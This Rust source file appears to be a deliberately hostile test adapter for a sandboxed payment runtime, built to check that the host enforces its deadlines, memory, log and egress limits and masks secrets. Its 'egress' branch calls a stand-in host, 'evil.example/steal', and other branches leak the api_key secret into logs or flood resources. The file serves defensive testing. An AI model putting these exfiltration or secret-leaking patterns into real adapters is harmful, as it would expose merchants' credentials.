//! A deliberately misbehaving adapter for the runtime's tests.
//!
//! `unified_order` does what `request.description` says:
//!
//! - `loop`: spins forever (step deadline);
//! - `oom`: allocates until the memory cap (memory limit);
//! - `panic`: panics with a recognisable message (trap);
//! - `egress`: sends to `https://evil.example/steal`, which it never
//!   declared (egress denial);
//! - `big`: fetches the URL in `attach` (a responder sending 5 MiB);
//! - `steps`: asks for a new request forever (step limit);
//! - `nondeterministic`: builds its request from the number of exchanges
//!   already recorded, so the replay asks for a different request;
//! - `echo`: fetches `attach`, logs the answer at error level and fails
//!   with it (the test's responder echoes the merchant's secret, which the
//!   host must mask);
//! - `log-flood`: logs 20,000 lines (4 MiB), then succeeds (log limits);
//! - `big-url`: succeeds with a 2 MiB redirect URL (result limits);
//! - `secret-flood`: one digest over 500,000 copies of the `api_key`
//!   secret (secret-operation limits);
//! - `secret-alone`: MD5 of `api_key` alone, then with only empty parts;
//! - `secret-loop`: digests of just under 1 MiB, over and over, until one
//!   is refused (the step's deadline, counted in host calls too);
//! - anything else: one well-behaved, signed request to `attach` and a
//!   success.
//!
//! It declares `127.0.0.1` and `localhost` as egress hosts, but the
//! host's address check still refuses them unless the operator sets
//! `allow_private`: declaring a name never grants a private address.
//! `query`, `refund` and `parse_notify` are unsupported.

use payhost_sdk::prelude::*;
use std::sync::atomic::{AtomicUsize, Ordering};

pub struct Hostile;

/// Number of exchanges the host passed to the current step. Each step
/// runs in a fresh instance, so this is per step; it exists only so that
/// the `nondeterministic` behaviour can depend on it.
static RECORDED: AtomicUsize = AtomicUsize::new(0);

impl Adapter for Hostile {
    fn describe() -> AdapterInfo {
        AdapterInfo {
            name: "hostile".into(),
            version: "0.1.0".into(),
            contract_version: CONTRACT_VERSION.into(),
            methods: vec!["test".into()],
            currencies: vec!["CNY".into(), "EUR".into()],
            capabilities: Capabilities {
                payment_notifications: false,
                refund_notifications: false,
                partial_refunds: false,
                query_by_merchant_order_no: true,
                close: false,
                refund_query: false,
                payouts: false,
                payout_notifications: false,
                contracts: false,
                contract_notifications: false,
                deduction_notifications: false,
            },
            egress_hosts: vec!["127.0.0.1".into(), "localhost".into()],
            field_rules: vec![],
            config_schema: vec![
                ConfigField {
                    name: "api_key".into(),
                    description: "Signs the well-behaved request (HMAC-SHA256).".into(),
                    kind: FieldKind::Secret,
                    required: true,
                    default: None,
                },
                ConfigField {
                    name: "base_url".into(),
                    description: "Unused; a url field for egress tests.".into(),
                    kind: FieldKind::Url,
                    required: false,
                    default: None,
                },
            ],
        }
    }

    fn unified_order(ctx: &mut Ctx, request: &OrderRequest) -> Result<OrderCreated> {
        let target = || {
            request
                .attach
                .clone()
                .ok_or_else(|| Error::invalid_request("`attach` must hold the URL to call"))
        };
        match request.description.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![0xa5; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!(
                "hostile adapter panics on purpose (order {})",
                request.merchant_order_no
            ),
            "egress" => {
                ctx.send(http::get("https://evil.example/steal"))?;
                Err(Error::malformed("evil.example answered"))
            }
            "big" => {
                let resp = ctx.send(http::get(target()?))?;
                Err(Error::malformed(format!("got {} bytes", resp.body.len())))
            }
            "steps" => {
                let base = target()?;
                for n in 0u32.. {
                    ctx.send(http::get(format!("{base}?n={n}")))?;
                }
                unreachable!()
            }
            "nondeterministic" => {
                let nonce = RECORDED.load(Ordering::Relaxed);
                ctx.send(http::get(format!("{}?nonce={nonce}", target()?)))?;
                Err(Error::malformed("the replay should have been caught"))
            }
            "log-flood" => {
                for n in 0..20_000 {
                    ctx.log(Level::Info, &format!("flood line {n}: {}", "x".repeat(200)));
                }
                Ok(OrderCreated {
                    order: OrderRef {
                        merchant_order_no: request.merchant_order_no.clone(),
                        provider_trade_no: None,
                        channel_transaction_id: None,
                    },
                    action: PayAction::Redirect("https://pay.example/checkout".into()),
                })
            }
            "big-url" => Ok(OrderCreated {
                order: OrderRef {
                    merchant_order_no: request.merchant_order_no.clone(),
                    provider_trade_no: None,
                    channel_transaction_id: None,
                },
                action: PayAction::Redirect(format!(
                    "https://pay.example/checkout?junk={}",
                    "a".repeat(2 << 20)
                )),
            }),
            "secret-flood" => {
                let key = ctx.config().secret("api_key")?;
                let parts = vec![Part::Secret(key); 500_000];
                ctx.digest(DigestAlgorithm::Md5, &parts)?;
                Err(Error::malformed("the flood was hashed"))
            }
            "secret-alone" => {
                let key = ctx.config().secret("api_key")?;
                let alone = ctx.digest(DigestAlgorithm::Md5, &[Part::Secret(key)]);
                let padded = ctx.hmac(
                    DigestAlgorithm::Sha256,
                    key,
                    KeyEncoding::Raw,
                    &[
                        Part::Text(String::new()),
                        Part::Secret(key),
                        Part::Bytes(vec![]),
                    ],
                );
                match (alone, padded) {
                    (Err(a), Err(b)) => Err(Error::malformed(format!("{a} / {b}"))),
                    _ => Err(Error::malformed(
                        "a digest of the secret alone was computed",
                    )),
                }
            }
            "secret-loop" => {
                let key = ctx.config().secret("api_key")?;
                let text = Part::Text("y".repeat((1 << 20) - (64 << 10) - 16));
                loop {
                    ctx.digest(DigestAlgorithm::Sha512, &[text.clone(), Part::Secret(key)])?;
                }
            }
            "echo" => {
                let resp = ctx.send(http::get(target()?))?;
                let text = String::from_utf8_lossy(&resp.body).into_owned();
                ctx.log(Level::Error, &format!("provider said: {text}"));
                Err(Error::rejected("ECHO", text, false))
            }
            _ => {
                let body = format!(
                    "order={}&amount={}",
                    request.merchant_order_no, request.amount.minor
                );
                let key = ctx.config().secret("api_key")?;
                let sig = ctx.hmac(
                    DigestAlgorithm::Sha256,
                    key,
                    KeyEncoding::Raw,
                    &[Part::Text(body.clone())],
                )?;
                let mut req = http::post(target()?, "application/x-www-form-urlencoded", body);
                req.headers
                    .push(("x-signature".into(), encoding::hex_lower(&sig)));
                let resp = ctx.send(req)?;
                if resp.status != 200 {
                    return Err(Error::rejected(
                        resp.status.to_string(),
                        "responder refused",
                        false,
                    ));
                }
                ctx.log(Level::Info, "well-behaved order created");
                Ok(OrderCreated {
                    order: OrderRef {
                        merchant_order_no: request.merchant_order_no.clone(),
                        provider_trade_no: Some(String::from_utf8_lossy(&resp.body).into_owned()),
                        channel_transaction_id: None,
                    },
                    action: PayAction::Redirect("https://pay.example/checkout".into()),
                })
            }
        }
    }

    fn query(_: &mut Ctx, _: &QueryRequest) -> Result<TradeStatus> {
        Err(Error::unsupported("query"))
    }

    fn refund(_: &mut Ctx, _: &RefundRequest) -> Result<RefundStatus> {
        Err(Error::unsupported("refund"))
    }

    fn parse_notify(_: &mut Ctx, _: &InboundHttp) -> Result<NotifyOutcome> {
        Err(Error::unsupported("parse_notify"))
    }
}

// Exported by hand rather than with `export_adapter!` so that
// `unified_order` can note how many exchanges were recorded.
#[doc(hidden)]
pub struct Export;

impl payhost_sdk::bindings::Guest for Export {
    fn describe() -> AdapterInfo {
        Hostile::describe()
    }
    fn unified_order(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: OrderRequest,
        exchanges: Vec<Exchange>,
    ) -> OrderStep {
        RECORDED.store(exchanges.len(), Ordering::Relaxed);
        payhost_sdk::glue::unified_order::<Hostile>(
            &payhost_sdk::glue::Imports,
            ctx,
            config,
            request,
            exchanges,
        )
    }
    fn query(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: QueryRequest,
        exchanges: Vec<Exchange>,
    ) -> QueryStep {
        payhost_sdk::glue::query::<Hostile>(
            &payhost_sdk::glue::Imports,
            ctx,
            config,
            request,
            exchanges,
        )
    }
    fn close(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: CloseRequest,
        exchanges: Vec<Exchange>,
    ) -> CloseStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::close::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn refund_query(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: RefundQueryRequest,
        exchanges: Vec<Exchange>,
    ) -> RefundQueryStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::refund_query::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn refund(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: RefundRequest,
        exchanges: Vec<Exchange>,
    ) -> RefundStep {
        payhost_sdk::glue::refund::<Hostile>(
            &payhost_sdk::glue::Imports,
            ctx,
            config,
            request,
            exchanges,
        )
    }
    fn parse_notify(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: InboundHttp,
        exchanges: Vec<Exchange>,
    ) -> NotifyStep {
        payhost_sdk::glue::parse_notify::<Hostile>(
            &payhost_sdk::glue::Imports,
            ctx,
            config,
            request,
            exchanges,
        )
    }
    fn payout(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: PayoutRequest,
        exchanges: Vec<Exchange>,
    ) -> PayoutStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::payout::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn payout_query(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: PayoutQueryRequest,
        exchanges: Vec<Exchange>,
    ) -> PayoutQueryStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::payout_query::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn contract_sign(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: ContractSignRequest,
        exchanges: Vec<Exchange>,
    ) -> ContractSignStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::contract_sign::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn contract_query(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: ContractQueryRequest,
        exchanges: Vec<Exchange>,
    ) -> ContractStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::contract_query::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn contract_terminate(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: ContractTerminateRequest,
        exchanges: Vec<Exchange>,
    ) -> ContractStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::contract_terminate::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn deduct(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: DeductionRequest,
        exchanges: Vec<Exchange>,
    ) -> DeductionStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::deduct::<Hostile>(imports, ctx, config, request, exchanges)
    }
    fn deduction_query(
        ctx: CallContext,
        config: Vec<ConfigEntry>,
        request: DeductionQueryRequest,
        exchanges: Vec<Exchange>,
    ) -> DeductionStep {
        let imports = &payhost_sdk::glue::Imports;
        payhost_sdk::glue::deduction_query::<Hostile>(imports, ctx, config, request, exchanges)
    }
}

// Natively the export symbols (`close`, ...) would shadow the C library's.
#[cfg(target_arch = "wasm32")]
payhost_sdk::bindings::__export_adapter_world!(Export with_types_in payhost_sdk::bindings);
